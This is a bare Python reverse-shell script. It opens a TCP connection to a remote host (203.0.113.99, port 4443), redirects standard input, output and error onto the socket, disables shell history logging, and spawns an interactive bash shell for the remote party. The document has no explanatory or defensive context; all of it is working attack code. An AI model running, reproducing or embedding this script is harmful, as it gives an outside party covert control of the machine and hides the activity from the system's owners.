import os
import pty
import socket

HOST = "203.0.113.99"
PORT = 4443

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)

os.environ["HISTFILE"] = "/dev/null"
pty.spawn("/bin/bash")
